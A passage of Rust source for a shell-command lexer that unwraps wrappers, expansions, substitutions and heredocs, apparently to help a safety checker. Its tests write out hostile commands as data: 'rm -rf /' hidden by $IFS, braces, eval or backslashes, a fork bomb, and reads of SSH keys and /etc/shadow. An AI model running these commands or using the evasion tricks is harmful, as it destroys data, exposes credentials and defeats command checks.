/// `pdsh -w hosts 'cmd'`) and filter options (`split --filter='cmd'`).
fn script_argument<'a>(program: &str, args: &'a [String]) -> Option<&'a str> {
    let value_of = |names: &[&str]| {
        args.iter().enumerate().find_map(|(i, a)| {
            if names.contains(&a.as_str()) {
                return args.get(i + 1).map(String::as_str);
            }
            names
                .iter()
                .find_map(|n| a.strip_prefix(n).and_then(|v| v.strip_prefix('=')))
        })
    };
    match program {
        "ansible" => {
            let module = value_of(&["-m", "--module-name"]).unwrap_or("command");
            let module = module.rsplit('.').next().unwrap_or(module);
            matches!(module, "command" | "shell" | "raw" | "script")
                .then(|| value_of(&["-a", "--args"]))
                .flatten()
        }
        "salt" | "salt-ssh" | "salt-call" => {
            let at = args.iter().position(|a| {
                matches!(
                    a.as_str(),
                    "cmd.run" | "cmd.shell" | "cmd.run_all" | "cmd.run_stdout" | "cmd.exec_code"
                )
            })?;
            args.get(at + 1).map(String::as_str)
        }
        "pdsh" | "clush" | "pssh" | "parallel-ssh" | "prsh" | "dsh" => args
            .last()
            .filter(|a| !a.starts_with('-'))
            .map(String::as_str),
        "split" | "gsplit" => value_of(&["--filter"]),
        _ => None,
    }
}

/// The command a package manager or environment tool runs for you:
/// `bundle exec cmd`, `cabal exec -- cmd`, `poetry run cmd`, `uv run cmd`,
/// `conda run -n env cmd`, `npx cmd`, `direnv exec dir cmd`; the program a
/// monitor starts (`pidstat -e cmd`).
fn runner_command<'a>(program: &str, args: &'a [String]) -> Option<&'a [String]> {
    if program == "pidstat" {
        let at = args.iter().position(|a| a == "-e")?;
        return args.get(at + 1..).filter(|inner| !inner.is_empty());
    }
    let verb = match program {
        "npx" | "bunx" | "pnpx" => None,
        "bundle" | "cabal" | "pnpm" | "yarn" | "npm" | "direnv" | "stack" => Some("exec"),
        "poetry" | "uv" | "pipenv" | "pdm" | "hatch" | "conda" | "mamba" | "pipx" | "rye" => {
            Some("run")
        }
        _ => return None,
    };
    let mut i = 0;
    if let Some(verb) = verb {
        i = args.iter().position(|a| !a.starts_with('-'))?;
        if args[i] != verb {
            return None;
        }
        i += 1;
    }
    while let Some(a) = args.get(i) {
        if a == "--" {
            i += 1;
            break;
        }
        if !a.starts_with('-') {
            break;
        }
        let takes_value = matches!(
            a.as_str(),
            "-n" | "--name" | "-p" | "--prefix" | "-e" | "--env"
        );
        i += if takes_value { 2 } else { 1 };
    }
    if program == "direnv" {
        i += 1; // the directory
    }
    let inner = args.get(i..)?;
    (!inner.is_empty()).then_some(inner)
}

/// Commands run through options: `find … -exec cmd … ;`, `-execdir`,
/// `-ok`, `-okdir`.
fn exec_options<'a>(program: &str, args: &'a [String]) -> Vec<&'a [String]> {
    let mut found = Vec::new();
    if let Some(inner) = runner_command(program, args) {
        found.push(inner);
    }
    if program != "find" {
        return found;
    }
    let mut i = 0;
    while i < args.len() {
        if matches!(args[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
            let start = i + 1;
            let mut end = start;
            while end < args.len() && args[end] != ";" && args[end] != "+" {
                end += 1;
            }
            if end > start {
                found.push(&args[start..end]);
            }
            i = end;
        }
        i += 1;
    }
    found
}

fn string_literals(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = code.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\'' || c == '"' || c == '`' {
            let mut s = String::new();
            while let Some(d) = chars.next() {
                if d == '\\' {
                    if let Some(e) = chars.next() {
                        s.push(e);
                    }
                } else if d == c {
                    break;
                } else {
                    s.push(d);
                }
            }
            out.push(s);
        }
    }
    out
}

/// True when a backslash after `word` (the unquoted word read so far)
/// separates a Windows path's parts, so it is kept: after a drive or
/// registry drive (`C:`, `HKCU:`) or a registry hive (`HKLM`), or within
/// a word that already has one (`C:\Users\me`, `\\host\share`).
/// Elsewhere it escapes, as the shell reads it (`r\m` is `rm`, `.\ssh` is
/// `.ssh`): kept there, it could hide what the shell would run or open.
fn windows_path_so_far(word: &str, in_word: bool) -> bool {
    if !in_word {
        return false;
    }
    let drive = word.strip_suffix(':').is_some_and(|d| {
        !d.is_empty() && d.len() <= 8 && d.bytes().all(|b| b.is_ascii_alphabetic())
    });
    let hive = word.len() >= 3
        && word.get(..2).is_some_and(|h| h.eq_ignore_ascii_case("HK"))
        && word.bytes().all(|b| b.is_ascii_alphabetic() || b == b'_');
    drive || hive || windows_path_started(word)
}

/// True when `rest` starts with a `.` or `..` segment. A backslash before
/// one escapes, as the shell reads it: a Windows path never needs `\.\`,
/// and keeping it would hide the traversal the shell sees
/// (`HKCU\.\.\/../etc` is `HKCU../../etc` to bash).
fn dot_segment(rest: &[u8]) -> bool {
    let dots = rest.iter().take_while(|&&c| c == b'.').count();
    (dots == 1 || dots == 2)
        && rest
            .get(dots)
            .is_none_or(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-')))
}

/// True when `word` already holds a kept Windows separator (`C:\x`,
/// `\\host`, `HKLM\x`).
fn windows_path_started(word: &str) -> bool {
    let b = word.as_bytes();
    let Some(at) = b.iter().position(|&c| c == b'\\') else {
        return false;
    };
    at == 0
        || b[at - 1] == b':'
        || (at >= 3
            && b[..2].eq_ignore_ascii_case(b"HK")
            && b[..at]
                .iter()
                .all(|c| c.is_ascii_alphabetic() || *c == b'_'))
}

/// Lexes a line into words and separators; command substitutions found
/// anywhere (also inside double quotes) are pushed to `nested`.
///
/// Works on bytes: every character with a meaning to the shell is ASCII,
/// so runs of ordinary characters are copied whole and a multi-byte
/// character is only decoded to ask whether it is white space.
fn lex(line: &str, nested: &mut Vec<String>) -> Vec<Tok> {
    let b = line.as_bytes();
    let n = b.len();
    // Most tokens are a word and a separator of a few bytes each.
    let mut toks = Vec::with_capacity(line.len() / 3 + 4);
    let mut word = String::with_capacity(64);
    let mut in_word = false;
    let mut pending_heredocs: Vec<&str> = Vec::new();
    // Brace expansion is looked for only in lines that have a brace.
    let any_brace = b.contains(&b'{');
    let mut i = 0;
    let flush = |word: &mut String, in_word: &mut bool, toks: &mut Vec<Tok>| {
        if *in_word {
            // One exact-size copy; the buffer is kept for the next word.
            toks.push(Tok::Word(word.as_str().to_owned()));
            word.clear();
            *in_word = false;
        }
    };
    while i < n {
        let c = b[i];
        let next = b.get(i + 1).copied();
        match c {
            b'\\'
                if next.is_some_and(|c| {
                    c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-')
                }) && windows_path_so_far(&word, in_word)
                    && !dot_segment(&b[i + 1..]) =>
            {
                // `C:\Users`, `HKCU\Software`, `.\build`, `\\host\share`:
                // written for Windows, where a backslash separates.
                word.push('\\');
                in_word = true;
                i += 1;
            }
            b'\\'
                if !in_word
                    && next == Some(b'\\')
                    && b.get(i + 2).is_some_and(|c| c.is_ascii_alphanumeric()) =>
            {
                // `\\host\share`: a UNC path.
                word.push_str("\\\\");
                in_word = true;
                i += 2;
            }
            b'\\' => {
                match next {
                    Some(b'\n') | None => {}
                    Some(_) => {
                        let ch = char_at(line, i + 1);
                        word.push(ch);
                        in_word = true;
                        i += ch.len_utf8() - 1;
                    }
                }
                i += 2;
            }
            b'\'' => {
                in_word = true;
                let end = find_byte(b, i + 1, b'\'');
                word.push_str(&line[i + 1..end]);
                i = end + 1;
            }
            b'"' => {
                in_word = true;
                i += 1;
                while i < n && b[i] != b'"' {
                    let run = i;
                    while i < n && !matches!(b[i], b'"' | b'\\' | b'$' | b'`') {
                        i += 1;
                    }
                    word.push_str(&line[run..i]);
                    match b.get(i) {
                        Some(b'\\') if i + 1 < n => {
                            let ch = char_at(line, i + 1);
                            word.push(ch);
                            i += 1 + ch.len_utf8();
                        }
                        Some(b'$') if b.get(i + 1) == Some(&b'(') => {
                            let (inner, end) = balanced(line, i + 2, b'(', b')');
                            nested.push(inner.to_owned());
                            match static_output(inner) {
                                Some(text) => word.push_str(&text),
                                None => {
                                    word.push_str("$(");
                                    word.push_str(inner);
                                    word.push(')');
                                }
                            }
                            i = end;
                        }
                        Some(b'`') => {
                            let (inner, end) = until(line, i + 1, b'`');
                            nested.push(inner.to_owned());
                            match static_output(inner) {
                                Some(text) => word.push_str(&text),
                                None => {
                                    word.push('`');
                                    word.push_str(inner);
                                    word.push('`');
                                }
                            }
                            i = end;
                        }
                        Some(b'\\' | b'$') => {
                            word.push(b[i] as char);
                            i += 1;
                        }
                        _ => {}
                    }
                }
                i += 1;
            }
            b'$' | b'`' if c == b'`' || next == Some(b'(') && b.get(i + 2) != Some(&b'(') => {
                // A command substitution: the words it prints when that is
                // known (`$(echo rm)` is `rm`), else kept as written, so a
                // program name made by a command is seen as computed.
                let (inner, end, open, close) = if c == b'`' {
                    let (inner, end) = until(line, i + 1, b'`');
                    (inner, end, "`", "`")
                } else {
                    let (inner, end) = balanced(line, i + 2, b'(', b')');
                    (inner, end, "$(", ")")
                };
                nested.push(inner.to_owned());
                match static_output(inner) {
                    Some(text) => {
                        // Unquoted, the output is split into words.
                        for (k, part) in text.split_whitespace().enumerate() {
                            if k > 0 {
                                flush(&mut word, &mut in_word, &mut toks);
                            }
                            word.push_str(part);
                            in_word = true;
                        }
                    }
                    None => {
                        word.push_str(open);
                        word.push_str(inner);
                        word.push_str(close);
                        in_word = true;
                    }
                }
                i = end;
            }
            b'<' if next == Some(b'(') || next == Some(b'<') => {
                flush(&mut word, &mut in_word, &mut toks);
                if next == Some(b'(') {
                    // Process substitution `<(cmd)`.
                    let (inner, end) = balanced(line, i + 2, b'(', b')');
                    nested.push(inner.to_owned());
                    i = end;
                } else if b.get(i + 2) == Some(&b'<') {
                    // Here-string `<<< word`.
                    let (text, end) = read_word(line, i + 3);
                    toks.push(Tok::Input(text.to_owned()));
                    i = end;
                } else {
                    // Heredoc `<<[-]DELIM`: its body (after the line) is data.
                    i += 2;
                    if b.get(i) == Some(&b'-') {
                        i += 1;
                    }
                    let (delim, end) = read_word(line, i);
                    pending_heredocs.push(delim);
                    i = end;
                }
            }
            b'>' | b'<' => {
                // Redirection: the target is not an argument. A file
                // descriptor number in front (`2>`) belongs to it.
                if in_word && !word.is_empty() && word.bytes().all(|c| c.is_ascii_digit()) {
                    word.clear();
                    in_word = false;
                }
                flush(&mut word, &mut in_word, &mut toks);
                let write = c == b'>';
                i += 1;
                while i < n && matches!(b[i], b'>' | b'&' | b'|') {
                    i += 1;
                }
                if b[i - 1] == b'&' && b.get(i).is_some_and(|c| c.is_ascii_digit() || *c == b'-') {
                    i += 1;
                    continue;
                }
                let (target, end) = read_word(line, i);
                toks.push(Tok::Redirect(Redirect {
                    write,
                    target: target.to_owned(),
                }));
                i = end;
            }
            b'&' if next == Some(b'>') => {
                // `&> file`: both streams to the file.
                flush(&mut word, &mut in_word, &mut toks);
                i += 1;
            }
            b'|' => {
                flush(&mut word, &mut in_word, &mut toks);
                // `||` separates; `|` and `|&` pipe.
                toks.push(if next == Some(b'|') {
                    Tok::Sep
                } else {
                    Tok::Pipe
                });
                i += if matches!(next, Some(b'|' | b'&')) {
                    2
                } else {
                    1
                };
            }
            b'(' if next == Some(b'(') => {
                // Arithmetic `(( … ))`: not a command.
                let (_, end) = balanced(line, i + 2, b'(', b')');
                i = end + 1;
            }
            b'(' if (in_word && !word.ends_with('=')
                || !in_word && matches!(toks.last(), Some(Tok::Word(_))))
                && b[i + 1..].iter().find(|c| **c != b' ') == Some(&b')') =>
            {
                // `name()` / `name ()`: a function definition (not `a=()`).
                flush(&mut word, &mut in_word, &mut toks);
                toks.push(Tok::FunctionDef);
                i = find_byte(b, i, b')') + 1;
            }
            b';' | b'&' | b'(' | b')' | b'\n' => {
                flush(&mut word, &mut in_word, &mut toks);
                if c == b'\n' && !pending_heredocs.is_empty() {
                    // Heredoc bodies run up to each delimiter line; they
                    // belong to the command before the newline.
                    for delim in pending_heredocs.drain(..) {
                        let delim = delim.trim_matches(|c| c == '\'' || c == '"');
                        let (body, end) = heredoc_body(line, (i + 1).min(n), delim);
                        toks.push(Tok::Input(body));
                        i = end;
                    }
                }
                toks.push(Tok::Sep);
                i += 1;
            }
            b'#' if !in_word => i = find_byte(b, i, b'\n'),
            b'\r' | 0x0b | 0x0c | 0x1c..=0x1e => {
                // A line break to other readers (Python's `splitlines`,
                // Node's readline, Go's scanners): a command may follow.
                flush(&mut word, &mut in_word, &mut toks);
                toks.push(Tok::Sep);
                i += 1;
            }
            b' ' | b'\t' => {
                flush(&mut word, &mut in_word, &mut toks);
                i += 1;
            }
            b'$' if ifs_len(&b[i + 1..]) > 0 => {
                // `$IFS`, `${IFS}`, `${IFS%?}`: unquoted, it splits words
                // (`rm${IFS}-rf${IFS}/` is `rm -rf /`).
                flush(&mut word, &mut in_word, &mut toks);
                i += 1 + ifs_len(&b[i + 1..]);
            }
            0x80.. => {
                let ch = char_at(line, i);
                if is_foreign_line_break(ch) {
                    flush(&mut word, &mut in_word, &mut toks);
                    toks.push(Tok::Sep);
                } else if ch.is_whitespace() {
                    flush(&mut word, &mut in_word, &mut toks);
                } else {
                    word.push(ch);
                    in_word = true;
                }
                i += ch.len_utf8();
            }
            _ => {
                // A run of ordinary characters (`#` inside a word is one).
                let run = i;
                i += 1;
                while i < n && !ends_run(b[i]) {
                    i += 1;
                }
                let text = &line[run..i];
                let whole_word = !in_word
                    && b.get(i).is_none_or(|c| {
                        matches!(
                            c,
                            b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b')' | b'<' | b'>'
                        )
                    });
                let braces = any_brace && whole_word && text.as_bytes().contains(&b'{');
                if let Some(words) = braces.then(|| brace_expansion(text)).flatten() {
                    // `{rm,-rf,/}` is `rm -rf /`; `/{etc,usr}` two paths.
                    toks.extend(words.into_iter().map(Tok::Word));
                    continue;
                }
                word.push_str(text);
                in_word = true;
            }
        }
    }
    flush(&mut word, &mut in_word, &mut toks);
    toks
}

/// True for a byte that ends a run of ordinary word characters.
fn ends_run(c: u8) -> bool {
    matches!(
        c,
        b'\\'
            | b'\''
            | b'"'
            | b'$'
            | b'`'
            | b'<'
            | b'>'
            | b'&'
            | b'('
            | b')'
            | b';'
            | b'|'
            | b'\n'
            | b' '
            | b'\t'
            | b'\r'
            | 0x0b
            | 0x0c
            | 0x1c..=0x1e
            | 0x80..
    )
}

/// Line breaks other than `\n` that common readers split lines on:
/// carriage return, vertical tab, form feed, the separators `\x1c`–`\x1e`,
/// NEL, and the Unicode line and paragraph separators.
fn is_foreign_line_break(c: char) -> bool {
    matches!(
        c,
        '\r' | '\x0b' | '\x0c' | '\x1c'..='\x1e' | '\u{85}' | '\u{2028}' | '\u{2029}'
    )
}

/// What a command substitution prints when it is fixed text: one `echo`
/// or `printf` of plain words (no expansion, escape, glob or format).
fn static_output(inner: &str) -> Option<String> {
    if inner.bytes().any(|c| {
        matches!(
            c,
            b'$' | b'`' | b'\\' | b'*' | b'?' | b'[' | b'{' | b'~' | b'%' | b'<' | b'>'
        )
    }) {
        return None;
    }
    let commands = split(inner);
    let [cmd] = commands.as_slice() else {
        return None;
    };
    if !cmd.assignments.is_empty() || !cmd.redirects.is_empty() || !cmd.input.is_empty() {
        return None;
    }
    let mut words = Vec::with_capacity(cmd.args.len() + 1);
    words.push(cmd.program.clone());
    words.extend(cmd.args.iter().cloned());
    printed_text(&cmd.program, &words)
}

/// The words an unquoted brace expansion makes (`{a,b}`, `pre{a,b}post`,
/// several groups), or `None` when `word` has none (`${x,,}`, `{1..3}`,
/// `{}` are left alone). At most 64 words.
fn brace_expansion(word: &str) -> Option<Vec<String>> {
    const MAX_WORDS: usize = 64;
    const MAX_GROUPS: usize = 8;
    let b = word.as_bytes();
    if b.len() > 4096 || b.iter().filter(|c| **c == b'{').count() > MAX_GROUPS {
        // Bounded work for a hostile word; left as written.
        return None;
    }
    let open = (0..b.len()).find(|&at| b[at] == b'{' && (at == 0 || b[at - 1] != b'$'))?;
    let close = open + b[open..].iter().position(|c| *c == b'}')?;
    let items = &word[open + 1..close];
    if !items.contains(',') || items.contains('{') {
        return None;
    }
    let (prefix, suffix) = (&word[..open], &word[close + 1..]);
    let mut words = Vec::new();
    for item in items.split(',') {
        let one = format!("{prefix}{item}{suffix}");
        match brace_expansion(&one) {
            Some(more) => words.extend(more),
            None => words.push(one),
        }
        if words.len() >= MAX_WORDS {
            words.truncate(MAX_WORDS);
            break;
        }
    }
    Some(words)
}

/// True when `line` holds a line break other than `\n` (bytes first: the
/// multi-byte breaks start with 0xC2 or 0xE2).
fn has_foreign_line_break(line: &str) -> bool {
    // No early exit, so the compiler checks 16 bytes at a time.
    let candidate = line.bytes().fold(false, |seen, b| {
        seen | (b == b'\r')
            | (b.wrapping_sub(0x0b) < 2)
            | (b.wrapping_sub(0x1c) < 3)
            | (b == 0xc2)
            | (b == 0xe2)
    });
    candidate && line.contains(is_foreign_line_break)
}

/// The length of an `IFS` expansion after its `$` (`IFS`, `{IFS}`,
/// `{IFS%?}`), or 0 when the text after the `$` is something else.
fn ifs_len(rest: &[u8]) -> usize {
    let ident = |c: &u8| c.is_ascii_alphanumeric() || *c == b'_';
    match rest {
        [b'I', b'F', b'S', next, ..] if !ident(next) => 3,
        [b'I', b'F', b'S'] => 3,
        [b'{', b'I', b'F', b'S', next, ..] if !ident(next) => rest
            .iter()
            .position(|c| *c == b'}')
            .map_or(rest.len(), |at| at + 1),
        _ => 0,
    }
}

/// The character starting at byte `i` (a character boundary).
fn char_at(line: &str, i: usize) -> char {
    line[i..].chars().next().unwrap_or('\u{fffd}')
}

/// The index of the first `byte` at or after `from`, or the end.
fn find_byte(b: &[u8], from: usize, byte: u8) -> usize {
    b.get(from..)
        .and_then(|rest| rest.iter().position(|c| *c == byte))
        .map_or(b.len(), |at| from + at)
}

/// A heredoc body starting at `start`: the lines up to the one that is
/// `delim` (or the end of the input), and the index of that line's end.
fn heredoc_body(line: &str, start: usize, delim: &str) -> (String, usize) {
    let b = line.as_bytes();
    let mut body = String::new();
    let mut j = start;
    loop {
        let end = find_byte(b, j, b'\n');
        let text = &line[j..end];
        if text.trim() == delim || end >= b.len() && text.is_empty() {
            return (body, end);
        }
        body.push_str(text);
        body.push('\n');
        if end >= b.len() {
            return (body, end);
        }
        j = end + 1;
    }
}

/// A redirection target or heredoc delimiter: a quoted string, or a run
/// up to white space or an operator. Leading spaces are skipped.
fn read_word(line: &str, mut i: usize) -> (&str, usize) {
    let b = line.as_bytes();
    while b.get(i) == Some(&b' ') {
        i += 1;
    }
    if let Some(&q @ (b'\'' | b'"')) = b.get(i) {
        let end = find_byte(b, i + 1, q);
        return (&line[i + 1..end], end + 1);
    }
    let start = i.min(b.len());
    let end = line[start..]
        .find(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | ')' | '<' | '>'))
        .map_or(b.len(), |at| start + at);
    (&line[start..end], end)
}

/// The text up to the `close` that balances an already open `open`, and
/// the index after it (or the end of the input).
fn balanced(line: &str, mut i: usize, open: u8, close: u8) -> (&str, usize) {
    let b = line.as_bytes();
    let start = i.min(b.len());
    let mut depth = 1;
    while i < b.len() {
        if b[i] == open {
            depth += 1;
        } else if b[i] == close {
            depth -= 1;
            if depth == 0 {
                return (&line[start..i], i + 1);
            }
        }
        i += 1;
    }
    (&line[start..], b.len())
}

/// The text up to the next `end` byte, and the index after it.
fn until(line: &str, i: usize, end: u8) -> (&str, usize) {
    let start = i.min(line.len());
    let at = find_byte(line.as_bytes(), start, end);
    (&line[start..at], at + 1)
}

#[cfg(test)]
mod tests {
    #[test]
    fn two_heredocs_on_a_line_that_ends_the_input_do_not_panic() {
        // Fuzzer reproducer (shell_split): the second heredoc started past the end.
        let _ = split("cat <<O <<OF\nbody");
        let _ = split("ec.\u{1}.\0\0at <<O <<OF\n\u{fffd}$(\u{1}");
    }

    use super::*;

    fn programs(line: &str) -> Vec<String> {
        split(line).into_iter().map(|c| c.line()).collect()
    }

    #[test]
    fn windows_paths_keep_their_backslashes_and_escapes_still_escape() {
        let args = |line: &str| split(line).pop().unwrap().args;
        assert_eq!(
            args(r"type C:\Users\me\.ssh\id_rsa"),
            [r"C:\Users\me\.ssh\id_rsa"]
        );
        assert_eq!(
            args(r"reg query HKCU\Software\X"),
            ["query", r"HKCU\Software\X"]
        );
        // After a dot it escapes: the shell reads `.\ssh` as `.ssh`.
        assert_eq!(args(r"cat .\ssh/id_rsa .\./x"), [".ssh/id_rsa", "../x"]);
        // A dot segment after a drive or hive reads as the shell reads it.
        assert_eq!(
            args(r"cat HKCU\.\.\/../etc/shadow C:\.\.\/x"),
            ["HKCU../../etc/shadow", "C:../x"]
        );
        assert_eq!(args(r"copy a \\host\share"), ["a", r"\\host\share"]);
        // Elsewhere a backslash escapes, as the shell reads it.
        assert_eq!(programs(r"r\m -rf /"), ["rm -rf /"]);
        assert_eq!(args(r"echo a\ b \$x"), ["a b", "$x"]);
    }

    #[test]
    fn commands_know_whether_they_pipe_into_the_next() {
        let piped = |line: &str| -> Vec<(String, bool)> {
            split(line)
                .into_iter()
                .map(|c| (c.program, c.pipes_on))
                .collect()
        };
        let own = |v: &[(&str, bool)]| -> Vec<(String, bool)> {
            v.iter().map(|(p, b)| (p.to_string(), *b)).collect()
        };
        assert_eq!(
            piped("a | b; c || d |& e"),
            own(&[
                ("a", true),
                ("b", false),
                ("c", false),
                ("d", true),
                ("e", false)
            ])
        );
        // A wrapper and the command it runs share their stage of the pipe.
        assert_eq!(
            piped("sudo a | b"),
            own(&[("sudo", true), ("a", true), ("b", false)])
        );
    }

    #[test]
    fn program_names_lose_their_directory_unless_computed() {
        for (word, name) in [
            ("/usr/bin/git", "git"),
            ("git", "git"),
            ("C:\\Tools\\git.exe", "git"),
            ("dir\\sub/prog", "prog"),
            ("a/b\\c.EXE", "c"),
            ("$HOME/bin/x", "x"),
            ("$'\\x73\\x68'", "$'\\x73\\x68'"),
            ("/tmp/$a$b", "/tmp/$a$b"),
            ("`which sh`", "`which sh`"),
            ("/", "/"),
            ("rm${IFS}-rf${IFS}/", "rm${IFS}-rf${IFS}/"),
        ] {
            assert_eq!(basename(word), name, "{word}");
        }
    }

    #[test]
    fn operators_split_commands() {
        assert_eq!(programs("echo ok && rm -rf /"), ["echo ok", "rm -rf /"]);
        assert_eq!(programs("a; b || c | d & e"), ["a", "b", "c", "d", "e"]);
        assert_eq!(
            programs("{ git reset --hard; echo done; }"),
            ["git reset --hard", "echo done"]
        );
        assert_eq!(programs("(cd x && make)"), ["cd x", "make"]);
    }

    #[test]
    fn line_breaks_other_readers_split_on_separate_commands() {
        for brk in [
            "\r", "\r\n", "\x0b", "\x0c", "\x1e", "\u{85}", "\u{2028}", "\u{2029}",
        ] {
            let line = format!("echo ok{brk}rm -rf /");
            assert!(programs(&line).contains(&"rm -rf /".to_owned()), "{line:?}");
            // Quoted, the shell reads data; a line-splitting tool reads a
            // command: both readings are judged.
            let line = format!("echo 'x{brk}rm -rf / #'");
            assert!(programs(&line).contains(&"rm -rf /".to_owned()), "{line:?}");
        }
        assert_eq!(programs("echo 'a\nb'"), ["echo a\nb"]);
    }

    #[test]
    fn substitutions_of_fixed_text_are_that_text() {
        assert_eq!(programs("$(echo rm) -rf /")[1], "rm -rf /");
        assert_eq!(programs("`echo rm` -rf /")[1], "rm -rf /");
        assert_eq!(programs("$(echo rm -rf) /")[1], "rm -rf /");
        assert_eq!(programs("echo \"$(printf hi)\"")[1], "echo hi");
        // Not fixed: kept as written, so the program is seen as computed.
        for line in [
            "$(cat f) -rf /",
            "`printf '\\x72m'` x",
            "$(echo $X) y",
            "$(echo a; echo b)",
        ] {
            let last = split(line).pop().unwrap();
            assert!(last.program.contains(['$', '`']), "{line}: {last:?}");
        }
    }

    #[test]
    fn known_input_to_an_interpreter_is_its_code() {
        let line = "python3 - <<EOF\nimport os; os.system('rm -rf /')\nEOF";
        let cmds = split(line);
        assert!(cmds.iter().any(|c| c.line() == "rm -rf /"), "{cmds:?}");
        let python = cmds.iter().find(|c| c.program == "python3").unwrap();
        assert_eq!(
            python.code.as_deref().map(str::trim_end),
            Some("import os; os.system('rm -rf /')")
        );
        let piped = split("echo 'print(1)' | perl");
        assert_eq!(piped.last().unwrap().code.as_deref(), Some("print(1)"));
        // Unknown input, or a script operand: no code.
        assert!(split("cat x.py | python3").iter().all(|c| c.code.is_none()));
        assert!(split("python3 run.py <<< 'data'")
            .iter()
            .all(|c| c.code.is_none()));
    }

    #[test]
    fn input_run_by_xargs_shells_or_source_is_a_script() {
        for line in [
            "xargs -I{} sh -c '{}' <<< 'rm -rf /'",
            "echo 'rm -rf /' | xargs -0 bash -c",
            "source /dev/stdin <<< 'rm -rf /'",
            ". /dev/stdin <<EOF\nrm -rf /\nEOF",
        ] {
            assert!(programs(line).contains(&"rm -rf /".to_owned()), "{line}");
        }
        assert!(!programs("xargs -n1 echo <<< 'rm -rf /'").contains(&"rm -rf /".to_owned()));
    }

    #[test]
    fn a_script_written_then_run_runs_its_text() {
        for line in [
            "cat > /tmp/x.sh <<EOF\nrm -rf /\nEOF\nsh /tmp/x.sh",
            "echo 'rm -rf /' > x.sh && chmod +x x.sh && ./x.sh",
            "echo 'rm -rf /' | tee run.sh >/dev/null; bash -e run.sh",
            "printf 'echo hi\\n' > s; echo 'rm -rf /' >> s; . ./s",
        ] {
            assert!(programs(line).contains(&"rm -rf /".to_owned()), "{line}");
        }
        // Written but not run, or another file run: data.
        for line in [
            "echo 'rm -rf /' > notes.txt; cat notes.txt",
            "echo 'rm -rf /' > a.sh; sh b.sh",
            "echo 'rm -rf /' > a.sh; sh -c 'echo a.sh'",
        ] {
            assert!(!programs(line).contains(&"rm -rf /".to_owned()), "{line}");
        }
    }

    #[test]
    fn brace_expansions_make_words() {
        assert_eq!(programs("{rm,-rf,/}"), ["rm -rf /"]);
        assert_eq!(programs("rm -rf /{etc,usr}"), ["rm -rf /etc /usr"]);
        assert_eq!(programs("cp f{,.bak}"), ["cp f f.bak"]);
        assert_eq!(programs("echo {a,b}{1,2}"), ["echo a1 a2 b1 b2"]);
        for (kept, first) in [
            ("echo '{a,b}'", "echo {a,b}"),
            // (A case conversion is read as its variable.)
            ("echo ${x,,}", "echo ${x}"),
            ("echo {1..3}", "echo {1..3}"),
            ("find . -exec rm {} +", "find . -exec rm {} +"),
        ] {
            assert!(programs(kept).contains(&first.to_owned()), "{kept}");
        }
        assert_eq!(
            split("{a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}")[0].args.len(),
            63
        );
        // A hostile word (thousands of groups) is left as written, quickly.
        let hostile = "{a,b}".repeat(20_000);
        assert_eq!(split(&hostile).len(), 1);
    }

    #[test]
    fn ifs_expansions_split_words() {
        for line in ["rm${IFS}-rf${IFS}/", "rm$IFS-rf$IFS/", "rm${IFS%?}-rf /"] {
            assert_eq!(programs(line), ["rm -rf /"], "{line}");
        }
        assert_eq!(programs("echo $IFSX"), ["echo $IFSX"]);
        assert_eq!(programs("echo \"a${IFS}b\""), ["echo a${IFS}b"]);
    }

    #[test]
    fn functions_that_call_themselves_twice_fork_without_bound() {
        let forks = |line: &str| split(line).iter().filter(|c| c.forks_itself).count();
        assert_eq!(forks(":(){ :|:& };:"), 2);
        assert_eq!(forks("bomb() {\n  bomb | bomb &\n}\nbomb"), 2);
        assert_eq!(forks("function f () { f & f; }; f"), 2);
        // One self-call (recursion with a base case), a call after the
        // body, other functions, array assignments: not a fork bomb.
        assert_eq!(
            forks("f() { if [ -n \"$1\" ]; then shift; f \"$@\"; fi; }; f a b"),
            0
        );
        assert_eq!(forks("g() { echo hi; }; g | g"), 0);
        assert_eq!(forks("a=(); b=(1 2); echo ${a[@]}"), 0);
        assert_eq!(programs("f() { rm -rf /; }; f"), ["rm -rf /", "f"]);
    }

    #[test]
    fn builtins_that_run_text_are_unwrapped() {
        for line in [
            "eval \"rm -rf /\"",
            "eval rm -rf /",
            "trap 'rm -rf /' EXIT",
            "trap -- 'rm -rf /' INT TERM",
            "alias ls='rm -rf /'",
            "flock /tmp/lock -c 'rm -rf /'",
            "runuser -u nobody -c 'rm -rf /'",
            "env -S 'rm -rf /'",
        ] {
            assert!(programs(line).contains(&"rm -rf /".to_owned()), "{line}");
        }
        assert_eq!(programs("trap -p"), ["trap -p"]);
        assert_eq!(programs("alias"), ["alias"]);
    }

    #[test]
    fn quotes_are_data() {
        assert_eq!(programs("echo 'rm -rf /'"), ["echo rm -rf /"]);
        assert_eq!(programs(r#"echo "a && b""#), ["echo a && b"]);
        assert_eq!(programs(r#"echo \"quoted\""#), [r#"echo "quoted""#]);
        assert_eq!(
            programs("rg -n \"rm -rf\" README.md"),
            ["rg -n rm -rf README.md"]
        );
    }

    #[test]
    fn environment_lookups_in_code_read_known_values() {
        let code = |line: &str| {
            split(line)
                .into_iter()
                .find_map(|c| c.code)
                .unwrap_or_default()
        };
        assert_eq!(
            code("export F=/etc/cron.d/x\nphp -r 'file_put_contents(getenv(\"F\"), \"x\");'"),
            "file_put_contents(\"/etc/cron.d/x\", \"x\");"
        );
        assert_eq!(
            code("F=/srv/x python3 -c 'print(open(os.environ[\"F\"]).read())'"),
            "print(open(\"/srv/x\").read())"
        );
        assert_eq!(
            code("export F=~/.bashrc\npwsh -c '\"x\" | Out-File $env:F'"),
            "\"x\" | Out-File \"~/.bashrc\""
        );
        assert_eq!(
            code("export F=/x\njulia -e 'open(f->write(f, \"D\"), ENV[\"F\"], \"w\")'"),
            "open(f->write(f, \"D\"), \"/x\", \"w\")"
        );
        assert_eq!(
            code("export U=http://x.example\nphp -r 'echo file_get_contents($_ENV[\"U\"]);'"),
            "echo file_get_contents(\"http://x.example\");"
        );
        assert_eq!(
            code("U=http://x.example node -e 'fetch(process.env[\"U\"])'"),
            "fetch(\"http://x.example\")"
        );
        assert_eq!(
            code("export F=/x\nruby -e 'File.read(ENV.fetch(\"F\"))'"),
            "File.read(\"/x\")"
        );
